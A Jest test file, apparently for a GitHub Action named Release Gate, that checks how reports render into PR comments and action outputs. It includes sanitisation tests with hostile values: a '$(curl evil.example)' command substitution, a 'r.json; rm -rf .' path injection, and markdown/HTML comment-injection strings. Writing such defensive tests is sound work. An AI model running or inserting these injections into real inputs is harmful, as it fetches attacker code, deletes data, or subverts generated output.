import { Buffer } from 'node:buffer';
import { describe, expect, test } from '@jest/globals';
import { maxMarkersLength } from '../../src/model/comment-marker.js';
import type { Day } from '../../src/model/day.js';
import { outputNames } from '../../src/model/input.js';
import type { Report } from '../../src/model/report.js';
import { comment, outputs, pageLinks, render, signature } from '../../src/render/pages.js';
import { makeMove, makePlan, makeStep } from '../support/make-plan.js';
import {
  makeFinding,
  makePlugin,
  makeReport,
  manyPlugins,
  noLinks,
} from '../support/make-report.js';

test('render makes every page from one report', () => {
  const report = makeReport({ verdict: 'fail', findings: [makeFinding()] });
  const pageOf = (rule: string) => `https://example.com/${rule}`;
  const pages = render(report, { pageOf, links: noLinks, reportPath: 'report.json', files: [] });
  expect(pages.annotations.map(({ level }) => level)).toEqual(['error']);
  expect(pages.summary).toContain('[core-too-old](https://example.com/core-too-old)');
  expect(pages.comment.startsOne).toBe(true);
  expect(pages.labels).toEqual(['release: core-major']);
  expect(pages.outputs['report-path']).toBe('report.json');
  expect(JSON.parse(pages.json)).toEqual(report);
});

test('what a click may write is among the pages', () => {
  const location = { path: 'plugins.txt', line: 1, column: 12, endColumn: 17 };
  const report = makeReport({
    ...{ releasing: [], findings: [makeFinding({ location })] },
    plugins: [makePlugin({ name: 'plugin-aws', version: '2.0.0', change: 'major' })],
    advice: [
      {
        ...{ way: 'stay', leaves: [] },
        steps: [{ do: 'set-plugin', subject: 'plugin-aws', to: '1.9.0', closes: [] }],
      },
    ],
  });
  const files = [{ path: 'plugins.txt', text: 'plugin-aws@2.0.0' }];
  const { suggestions } = render(report, { ...options, reportPath: '', files });
  expect(suggestions.map(({ line }) => line)).toEqual(['plugin-aws@2.0.0']);
});

test('the same report makes the same bytes', () => {
  const options = { pageOf: () => null, links: noLinks, reportPath: '', files: [] };
  expect(render(makeReport(), options)).toEqual(render(makeReport(), options));
});

const options = { pageOf: () => null, links: noLinks };
const problem = { message: 'a problem', found: '', expected: '', location: null };

describe('comment', () => {
  test('all is well: one green line, details folded, no picture', () => {
    const calendar = { ...makeReport().calendar, previousCoreMajor: null, nextCoreMajors: [] };
    const report = makeReport({ latest: null, calendar, releasing: [] });
    expect(comment(report, options)).toEqual({
      startsOne: false,
      body: `## ✅ plugin-dbt 1.1.5 runs on core 2025.1.0

<details>
<summary>Compatibility: plugin-dbt 1.1.5 runs on core 2025.1.0</summary>

|   | Plugin |
|---|---|
| ✅ | **plugin-dbt** 1.1.5 · needs \`2025.1.0+\` |

The lowest core that runs every plugin is \`2025.1.0\`.

</details>

<details>
<summary>Calendar: due on this day: a core major and plugin majors; next bugfix Thu 7 Aug 2025, next major 2025.2.0 on Tue 7 Oct 2025</summary>

| Day | What |
|---|---|
| 2025-08-05 Tue | **this day** |
| 2025-08-07 Thu | next core bugfix |

</details>

<sub>Release Gate · core 2025.1.0 · for Tue 5 Aug 2025 · policy kestra-calver</sub>
`,
    });
  });

  test('the calendar of a release is folded, as a comment has no picture', () => {
    const { body } = comment(makeReport(), options);
    expect(body).toContain('</details>\n\n<details>\n<summary>Calendar');
  });

  test.each([
    ['an error', true, { findings: [makeFinding()] }],
    ['a warning', true, { findings: [makeFinding({ severity: 'warning' })] }],
    ['an undecided error', true, { findings: [makeFinding({ undecided: true })] }],
    ['a problem', true, { problems: [problem] }],
    ['a notice', false, { notices: [{ message: 'a notice', location: null }] }],
    ['a finding of notice rank', false, { findings: [makeFinding({ severity: 'notice' })] }],
    ['a waived error', false, { findings: [makeFinding({ status: 'waived' })] }],
  ])('whether %s starts one: %s', (_, expected, difference) => {
    expect(comment(makeReport(difference), options).startsOne).toBe(expected);
  });

  test('a problem says that the gate could not judge', () => {
    const { body } = comment(makeReport({ verdict: 'fail', problems: [problem] }), options);
    expect(body).toMatch(/^## ❌ Release Gate could not judge: 1 problem, nothing was judged\n/);
    expect(body).toContain('\n1. a problem\n');
  });

  test('5,000 plugins and 5,000 long findings fit, the worst shown and the rest named', () => {
    const long = 'ä'.repeat(1900);
    const findings = [
      ...[...Array(5000).keys()].map((index) =>
        makeFinding({ severity: 'warning', message: long, remedy: `${index} ${long}` }),
      ),
      makeFinding({ subject: 'plugin-worst@1.0.0' }),
    ];
    const bad = makePlugin({ name: 'plugin-last', compatibility: 'incompatible' });
    const plugins = [...manyPlugins(5000), bad];
    const { body } = comment(makeReport({ findings, plugins }), options);
    expect(Buffer.byteLength(body)).toBeLessThan(65_536);
    expect(body).toContain('plugin-worst 1.0.0');
    expect(body).toContain('**plugin-last**');
    expect(body).toMatch(/\n\nand 49\d\d findings not shown\.\n/);
    expect(body).toMatch(/\n\nand \d{4} compatible plugins not shown\.\n/);
    expect(body.match(/<details>/g)).toHaveLength(body.match(/<\/details>/g)?.length ?? 0);
  });

  test('it fits, whatever stands above and below what may be left out', () => {
    // Each of these is written as an element, fourteen times as long.
    const long = '@'.repeat(5000);
    const links = Object.fromEntries([...Array(500).keys()].map((n) => [`${n}`, 'https://a.b']));
    const report = makeReport({
      ...{ verdict: 'fail', releasing: ['plugins'], releasingReason: '@'.repeat(150) },
      plugins: ['a', 'b', 'c'].map((name) => makePlugin({ name: name + long, version: long })),
      findings: ['a', 'b'].map((each) =>
        makeFinding({ rule: 'core-outdated', subject: each + long, remedy: each + long }),
      ),
      policy: { name: long, source: long, reason: long },
      seen: [...Array(20).keys()].map((n) => ({ path: n + long, core: true, plugins: 3 })),
    });
    const { body } = comment(report, { ...options, links: { ...noLinks, others: links } });
    expect(body.length + maxMarkersLength).toBeLessThan(65_536);
    expect(body).toContain('and 490 more in the policy');
    expect(body).toMatch(/^.{6000,8000}…\n\n\*\*First:\*\* a.{6000,8000}…\n\n/);
  });

  test('a plan is folded, and a long one says what it left out', () => {
    const moves = [...Array(2000).keys()].map((index) => makeMove({ name: `plugin-${index}` }));
    const { body } = comment(
      makeReport({ plan: makePlan({ steps: [makeStep({ moves })] }) }),
      options,
    );
    expect(Buffer.byteLength(body)).toBeLessThan(65_536);
    expect(body).toContain(
      '<summary>Upgrade path: 0.22.3 → 2025.1.0</summary>\n\n1. Upgrade to core `2025.1.0`.\n    - `plugin-0`',
    );
    expect(body).toMatch(/\n\nand \d{3,4} lines of the plan not shown\.\n/);
  });

  test('hostile text cannot plant a marker, a mention or an end of the details', () => {
    const hostile = '<!-- release-gate:x --> @octocat </details> ![x](https://a.b/c.png)';
    const { body } = comment(
      makeReport({
        findings: [makeFinding({ subject: hostile, message: hostile, remedy: hostile })],
        plugins: [makePlugin({ name: hostile, version: hostile, requires: `\`${hostile}` })],
        notices: [{ message: hostile, location: null }],
      }),
      options,
    );
    const outsideCode = body.replaceAll(/`[^`\n]*`/g, '');
    expect(outsideCode).not.toMatch(/<!--|@octocat|!\[/);
    expect(outsideCode.match(/<details>/g)).toHaveLength(3);
    expect(outsideCode.match(/<\/details>/g)).toHaveLength(3);
  });
});

describe('the line that names the step', () => {
  test.each([
    ['production', '<sub>Release Gate · production</sub>'],
    ['Checks/gate/prod-0f', '<sub>Release Gate · Checks/gate/prod-0f</sub>'],
    ['a`b|c', '<sub>Release Gate · a&#96;b&#124;c</sub>'],
    ['<!-- @acme', '<sub>Release Gate · &#60;!-- <span>@</span>acme</sub>'],
  ])('of %j is %s', (key, line) => {
    expect(signature(key)).toBe(line);
  });

  test.each(['@', '`', '\u200b', '\u{e0001}', '#'])(
    'fits where the comment is full of %j',
    (each) => {
      const line = signature(`|${each.repeat(99)}`);
      const findings = [...Array(3000).keys()].map((index) => makeFinding({ remedy: `${index}` }));
      const { body } = comment(makeReport({ findings }), options);
      expect(line.length + body.length + maxMarkersLength + 2).toBeLessThanOrEqual(65_536);
      expect(body.length).toBeGreaterThan(50_000);
    },
  );
});

const reportPath = '/home/runner/_temp/release-gate.json';
const { core, calendar } = makeReport();

describe('outputs', () => {
  test('a judged report sets every output', () => {
    expect(outputs(makeReport(), reportPath)).toEqual({
      verdict: 'pass',
      compatible: 'true',
      'on-cadence': 'true',
      'core-kind': 'core-major',
      'moves-latest': 'true',
      'minimum-core': '2025.1.0',
      due: 'core-major,plugin-major',
      'next-core-major': '2025.2.0',
      'next-core-major-date': '2025-10-07',
      'next-core-bugfix-date': '2025-08-07',
      errors: '0',
      warnings: '0',
      undecided: '0',
      waived: '0',
      labels: 'release: core-major',
      'report-path': reportPath,
    });
  });

  test('what was not asked is empty', () => {
    const empty = { due: [], nextCoreMajor: null, nextCoreMajors: [], nextCoreBugfix: null };
    const report = makeReport({
      core: null,
      compatible: null,
      onCadence: null,
      minimumCore: null,
      calendar: { ...calendar, ...empty },
      labels: [],
    });
    const { verdict, errors, warnings, undecided, waived, ...others } = outputs(report, '');
    expect([verdict, errors, warnings, undecided, waived]).toEqual(['pass', '0', '0', '0', '0']);
    expect(new Set(Object.values(others))).toEqual(new Set(['']));
  });

  test('with a problem the verdict is fail, booleans are false and counts 0', () => {
    const problems = [{ message: 'x', found: '', expected: '', location: null }];
    const counts = { error: 3, warning: 3, notice: 3, undecided: 3, waived: 3 };
    expect(outputs(makeReport({ problems, counts, compatible: null }), reportPath)).toMatchObject({
      verdict: 'fail',
      compatible: 'false',
      'on-cadence': 'false',
      'moves-latest': 'false',
      errors: '0',
      warnings: '0',
      undecided: '0',
      waived: '0',
    });
  });

  const hostile = '$(curl evil.example)\n`x`;';
  const rows: readonly (readonly [string, Partial<Report>])[] = [
    ['minimum-core', { minimumCore: hostile }],
    ['next-core-major', { calendar: { ...calendar, nextCoreMajor: null } }],
    ['core-kind', { core: core && { ...core, kind: hostile as 'core-major' } }],
    ['due', { calendar: { ...calendar, due: [hostile as 'core-major'] } }],
    ['labels', { labels: [hostile] }],
    ['verdict', { verdict: hostile as 'pass' }],
  ];
  test.each(rows)('%s is empty when it does not have its form', (name, difference) => {
    expect(outputs(makeReport(difference), reportPath)).toHaveProperty([name], '');
  });

  test.each<[string, string, (value: string) => Partial<Report>]>([
    ['verdict', 'pass', (value) => ({ verdict: value as 'pass' })],
    [
      'core-kind',
      'core-major',
      (value) => ({ core: core && { ...core, kind: value as 'core-major' } }),
    ],
    ['minimum-core', '2025.10.12-rc1', (minimumCore) => ({ minimumCore })],
    ['due', 'core-major', (value) => ({ calendar: { ...calendar, due: [value as 'core-major'] } })],
    ['labels', 'gate: breaking', (value) => ({ labels: [value] })],
    [
      'next-core-major-date',
      '2025-10-07',
      (date) => ({
        calendar: { ...calendar, nextCoreMajor: { date: date as Day, version: null } },
      }),
    ],
  ])('%s is %s only when nothing stands before or after it', (name, value, given) => {
    const of = (text: string) => outputs(makeReport(given(text)), reportPath)[name as 'verdict'];
    expect([value, `${hostile} ${value}`, `${value} ${hostile}`].map(of)).toEqual([value, '', '']);
  });

  test('a count may have several digits', () => {
    const counts = { error: 12, warning: 0, notice: 0, undecided: 0, waived: 0 };
    expect(outputs(makeReport({ counts }), reportPath).errors).toBe('12');
  });

  test.each([
    ['/home/größe/_temp/r.json', '/home/größe/_temp/r.json'],
    ['D:\\a\\_temp\\r.json', 'D:\\a\\_temp\\r.json'],
    ['r.json; rm -rf .', ''],
    ['$(x).json', ''],
    ['a\nb', ''],
  ])('report-path %j is %j', (path, expected) => {
    expect(outputs(makeReport(), path)['report-path']).toBe(expected);
  });

  test('the names are those of the contract', () => {
    expect(Object.keys(outputs(makeReport(), ''))).toEqual(outputNames);
  });
});

const origin = {
  GITHUB_SERVER_URL: 'https://github.example.com',
  GITHUB_ACTION_REPOSITORY: 'acme/release-gate',
  GITHUB_ACTION_REF: 'v1',
};
const repository = 'https://github.example.com/acme/release-gate';

test.each([
  [
    'the version of the action that runs',
    origin,
    `${repository}/blob/v1/docs/rules/core-too-old.md`,
  ],
  [
    'the newest version where the runner names none',
    { ...origin, GITHUB_ACTION_REF: '' },
    `${repository}/blob/HEAD/docs/rules/core-too-old.md`,
  ],
  [
    'nowhere for an action of the repository itself',
    { ...origin, GITHUB_ACTION_REPOSITORY: '' },
    null,
  ],
  ['nowhere without a server', { ...origin, GITHUB_SERVER_URL: undefined }, null],
  ['nowhere on a command line', {}, null],
])('the page of a rule lies in %s', (_, variables, page) => {
  expect(pageLinks(variables)('core-too-old')).toBe(page);
});
